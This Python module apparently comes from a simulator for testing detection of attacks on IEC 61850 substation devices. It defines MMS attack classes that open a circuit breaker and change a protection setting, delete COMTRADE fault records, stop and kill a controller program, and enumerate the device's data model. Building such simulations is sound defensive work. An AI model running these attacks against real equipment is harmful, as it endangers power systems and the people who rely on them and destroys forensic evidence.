"""Attacks on an IED over MMS: a stranger associates, as no IED asks who it is, and asks for what it should not."""

import asyncio
from collections.abc import Iterator
from typing import Final

from open61850 import ber
from open61850.data import BoolData
from open61850.mms import pdu
from open61850.mms.association import AssociationParameters, association_request

from protocols.iec61850.transport import Disconnected, Stream, Violation, connection_request
from simulator.attacks.attack import CHUNK, REQUESTS_MAX, Attack, Field

LONGEST_S: Final = 10.0
"""An IED that does not answer by then is left."""
SELECTOR: Final = b"\x00\x01"


class MmsAttack(Attack):
    """Asks for everything in `services`; what is answered is of no interest, but waited for. `answered` counts it."""

    WAY = "iec61850"

    def __init__(self, *, domain: str = "IED1LD0") -> None:
        self.domain, self.answered = domain, 0

    def services(self) -> Iterator[bytes]:
        """Yield the requests, as the service of a confirmed request."""
        raise NotImplementedError

    async def run(self, on: Field) -> None:
        """Associate, ask, hang up."""
        async with asyncio.timeout(LONGEST_S):
            reader, writer = await on.connect(self.WAY)
            try:
                await self._ask(reader, writer)
            finally:
                writer.close()

    async def _ask(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        stream = Stream()
        writer.write(connection_request(SELECTOR, SELECTOR))
        await _answer(reader, stream)
        writer.write(stream.frames(association_request(AssociationParameters())))
        await _answer(reader, stream)
        for invoke, service in enumerate(self.services()):
            if invoke >= REQUESTS_MAX:
                break
            writer.write(stream.frames(pdu.wrap(pdu.confirmed_request(invoke, service))))
            if not await _answer(reader, stream):
                break
            self.answered += 1


class MmsControl(MmsAttack):
    """Opens a circuit breaker."""

    NAME = "mms_control"
    CHECKS = ("unauthorised_write",)

    def services(self) -> Iterator[bytes]:
        """Yield one direct operate, and a setting of a protection."""
        for item in ("CSWI1$CO$Pos$Oper$ctlVal", "PTOC1$SP$StrVal$setMag$f"):
            yield pdu.write_request([pdu.ObjectName(item, self.domain)], [BoolData(False)])


class MmsFileDelete(MmsAttack):
    """Deletes the records of disturbances."""

    NAME = "mms_file_delete"
    CHECKS = ("file_or_program",)

    def services(self) -> Iterator[bytes]:
        """Yield one fileDelete (service 76)."""
        name = ber.encode_tlv(0x19, b"COMTRADE/fault1.dat")
        yield _service(76, ber.encode_tlv(0xA0, name))


class MmsStop(MmsAttack):
    """Stops the program of a controller."""

    NAME = "mms_stop"
    CHECKS = ("critical_function",)

    def services(self) -> Iterator[bytes]:
        """Yield a stop (service 41) and a kill (44)."""
        for number in (41, 44):
            yield _service(number, ber.encode_tlv(0x80, b"Application_1"))


class MmsBrowse(MmsAttack):
    """Asks for the names of everything."""

    NAME = "mms_browse"
    CHECKS = ("reconnaissance",)

    def services(self) -> Iterator[bytes]:
        """Yield getNameList of domains, variables and data sets, and the type of each logical node that is guessed."""
        yield pdu.get_name_list_request(pdu.OBJECT_CLASS_DOMAIN)
        for kind in (pdu.OBJECT_CLASS_NAMED_VARIABLE, pdu.OBJECT_CLASS_NAMED_VARIABLE_LIST):
            yield pdu.get_name_list_request(kind, self.domain)
        for node in ("LLN0", "LPHD1", *(f"{kind}1" for kind in ("CSWI", "XCBR", "MMXU", "PTOC", "PDIS", "ATCC"))):
            yield pdu.get_variable_access_attributes_request(pdu.ObjectName(node, self.domain))


ATTACKS: Final[tuple[type[MmsAttack], ...]] = (MmsControl, MmsFileDelete, MmsStop, MmsBrowse)


async def _answer(reader: asyncio.StreamReader, stream: Stream) -> bool:
    """Wait for the next message; return whether there was one."""
    while data := await reader.read(CHUNK):
        try:
            if list(stream.take(data)):
                return True
        except (Violation, Disconnected):
            return False
    return False


def _service(number: int, content: bytes) -> bytes:
    """Return a request of a service whose number takes two bytes."""
    return bytes((0xBF, number)) + ber.encode_length(len(content)) + content
